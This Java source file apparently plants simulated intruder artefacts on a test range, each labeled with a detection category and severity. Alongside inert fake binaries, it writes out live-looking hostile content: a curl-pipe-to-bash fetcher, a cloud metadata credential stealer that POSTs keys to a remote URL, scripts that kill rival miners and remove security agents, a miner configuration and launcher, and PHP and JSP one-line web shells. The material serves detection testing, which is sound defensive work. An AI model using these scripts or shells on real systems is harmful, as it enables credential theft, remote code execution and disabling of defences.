package davy.range.plant;

import java.time.Instant;

/// What intruders leave among files: programs with odd names, places, bits and contents.
final class FileArtefacts {
    private FileArtefacts() {}

    static void plant(Ground ground) {
        names(ground);
        places(ground);
        rights(ground);
        miners(ground);
        scripts(ground);
        webShells(ground);
        shapes(ground);
    }

    private static void names(Ground ground) {
        String name = ground.dice.letters(ground.dice.between(9, 12));
        String random = ground.program("/usr/sbin/" + name, ground.inert.program());
        // One name in thirty that is drawn by lot looks like a word.
        ground.artefact(
                "program with a senseless name", "random-name unpackaged-binary", "medium", random);

        String family = ground.dice.pick("kdevtmpfsi", "kinsing", "khugepageds", "kthreaddi");
        String known = ground.program("/var/tmp/" + family, ground.inert.staticProgram());
        ground.artefact("program named like a known miner", "known-malware-file", "high", known);

        String lock = ground.write("/var/tmp/vm.lock", "");
        ground.artefact("lock file of a known family", "known-malware-file", "medium", lock);

        String picture = "/var/www/html/images/" + ground.word() + ".jpg";
        ground.program(picture, ground.inert.program());
        ground.artefact("program that says it is a picture", "foreign-extension", "high", picture);

        String plain = ground.program("/usr/bin/" + ground.word(), ground.inert.program());
        ground.artefact(
                "program among packaged ones", "unpackaged-binary random-name", "medium", plain);
    }

    private static void places(Ground ground) {
        String dots = ground.program("/var/tmp/.../" + ground.word(), ground.inert.program());
        ground.artefact("program below three dots", "hidden-place", "medium", dots);

        String blank = ground.program("/usr/lib/.. /" + ground.word(), ground.inert.program());
        ground.artefact("program below a blank", "hidden-place", "medium", blank);

        String socket =
                ground.program("/tmp/.X11-unix/.rsync/" + ground.word(), ground.inert.program());
        ground.artefact("program among X11 sockets", "hidden-place", "medium", socket);

        String hidden = ground.program("/usr/share/man/." + ground.word(), ground.inert.program());
        ground.artefact("hidden program among manuals", "hidden-place", "medium", hidden);
    }

    private static void rights(Ground ground) {
        String shell = ground.copy("/usr/bin/dash", "/var/tmp/." + ground.word());
        ground.bits(shell, 0104755);
        ground.artefact("shell with the set-user-id bit", "set-id", "high", shell);

        String able = ground.copy("/usr/bin/python3.11", "/usr/local/bin/" + ground.word());
        ground.capability(able, "cap_setuid+ep");
        ground.artefact("Python that may become root", "file-capability", "high", able);

        String fixed = ground.program("/usr/bin/" + ground.word(), ground.inert.program());
        ground.immutable(fixed);
        ground.artefact("program that cannot be removed", "immutable-file", "high", fixed);

        String foreign =
                ground.program(
                        "/usr/lib/" + ground.word() + "/" + ground.word(), ground.inert.program());
        ground.owner(foreign, 2903798712L);
        ground.artefact(
                "owner by which a kernel module hides files",
                "bot-ipc known-malware-file",
                "high",
                foreign);
    }

    private static void miners(Ground ground) {
        String place = "/opt/." + ground.word();
        String config =
                ground.write(
                        place + "/config.json",
                        """
                        {"autosave": true, "cpu": {"huge-pages": true}, "donate-level": 0,
                         "pools": [{"url": "%s:%d", "user": "%s", "pass": "x", "algo": "rx/0",
                                    "keepalive": true, "tls": false}]}
                        """
                                .formatted(
                                        ground.dice.address(),
                                        ground.dice.between(3333, 14444),
                                        Wallet.address(ground.dice)));
        ground.artefact("configuration of a miner", "miner-config", "critical", config);

        String start =
                ground.script(
                        "/usr/local/share/" + ground.word() + ".sh",
                        "#!/bin/sh\nexec ./"
                                + ground.word()
                                + " -o stratum+tcp://"
                                + ground.dice.address()
                                + ":3333 -u "
                                + Wallet.address(ground.dice)
                                + " -p x --donate-level 1 -B\n");
        ground.artefact("script that starts a miner", "miner-config", "critical", start);

        String miner =
                ground.program(
                        "/usr/local/lib/" + ground.word() + "/" + ground.word(),
                        ground.inert.marked(
                                "stratum+tcp://192.0.2.7:3333",
                                "donate-level",
                                "cryptonight",
                                "randomx",
                                "rx/0",
                                "Usage: miner [OPTIONS] --coin --algo --nicehash",
                                "mining.subscribe",
                                "mining.authorize"));
        ground.artefact("program that holds a miner's words", "miner-binary", "critical", miner);

        String packed =
                ground.program("/usr/bin/" + ground.word(), ground.inert.packed(ground.dice));
        ground.artefact("packed program", "packed-binary", "medium", packed);

        String tool =
                ground.program("/opt/tools/" + ground.word(), ground.inert.packed(ground.dice));
        ground.artefact("packed tool where tools are kept", "packed-binary", "low", tool);
    }

    private static void scripts(Ground ground) {
        Dice dice = ground.dice;
        String fetch =
                ground.script(
                        "/usr/local/sbin/" + ground.word() + ".sh",
                        "#!/bin/bash\n(curl -fsSL %s || wget -q -O- %s) | bash\n"
                                .formatted(dice.url(), dice.url()));
        // Administrators keep scripts there too.
        ground.artefact("script that fetches and runs", "download-and-run", "medium", fetch);

        String rivals =
                ground.script(
                        "/var/lib/" + ground.word() + "/" + ground.word() + ".sh",
                        """
                        #!/bin/sh
                        chattr -iR /var/spool/cron
                        crontab -r
                        for i in kdevtmpfsi kinsing xmrig minerd sysupdate networkservice; do
                          pkill -9 -f $i
                        done
                        pkill -f kthreaddi
                        pkill -f cryptonight
                        pkill -f watchbog
                        killall xmr-stak
                        ps aux | grep -v grep | grep 'stratum' | awk '{print $2}' | xargs kill -9
                        """);
        ground.artefact("script that kills rivals", "download-and-run", "high", rivals);

        String thief =
                ground.script(
                        "/var/tmp/" + ground.word() + ".sh",
                        "#!/bin/sh\nrole=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/)\n"
                                + "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/$role"
                                + " | curl -s -X POST --data-binary @- "
                                + dice.url()
                                + "\n");
        ground.artefact("script that takes the cloud's keys", "metadata-theft", "high", thief);

        String remover =
                ground.script(
                        "/usr/local/bin/" + ground.word() + ".sh",
                        """
                        #!/bin/bash
                        systemctl stop aliyun.service
                        /usr/local/aegis/aegis_client/aegis_uninstall.sh
                        wget -qO- http://update.aegis.example.com/download/quartz_uninstall.sh
                        pkill aliyun-service
                        rm -rf /usr/local/aegis
                        /usr/local/qcloud/YunJing/uninst.sh
                        setenforce 0
                        """);
        ground.artefact("script that removes agents", "security-agent-removed", "high", remover);

        String masked = ground.link("/etc/systemd/system/auditd.service", "/dev/null");
        ground.artefact("audit that is masked", "security-agent-removed", "medium", masked);
    }

    private static void webShells(Ground ground) {
        String variable = ground.dice.letters(4);
        String php =
                ground.write(
                        "/var/www/html/" + ground.word() + ".php",
                        "<?php @eval($_POST['" + variable + "']); ?>\n");
        ground.artefact("web page that runs what it is sent", "web-shell", "high", php);

        String jsp =
                ground.write(
                        "/opt/tomcat/webapps/ROOT/" + ground.word() + ".jsp",
                        "<%@ page import=\"java.io.*\" %><% Process p = Runtime.getRuntime().exec(request.getParameter(\""
                                + variable
                                + "\")); %>\n");
        ground.artefact("Java page that runs what it is sent", "web-shell", "high", jsp);
    }

    private static void shapes(Ground ground) {
        String old = ground.program("/usr/bin/" + ground.word(), ground.inert.program());
        ground.age(old, Instant.parse("2009-0" + ground.dice.between(1, 9) + "-11T08:12:00Z"));
        ground.artefact("program older than its disk", "timestomp", "medium", old);

        String folder = "/var/tmp/" + ground.word();
        ground.write(folder + "/hide.c", "int readdir(void *d) { return 0; }\n");
        ground.write(folder + "/hide.o", ground.inert.module());
        ground.program(folder + "/hide.so", ground.inert.library());
        ground.artefact("library compiled here", "compiled-on-host", "low", folder);
    }
}
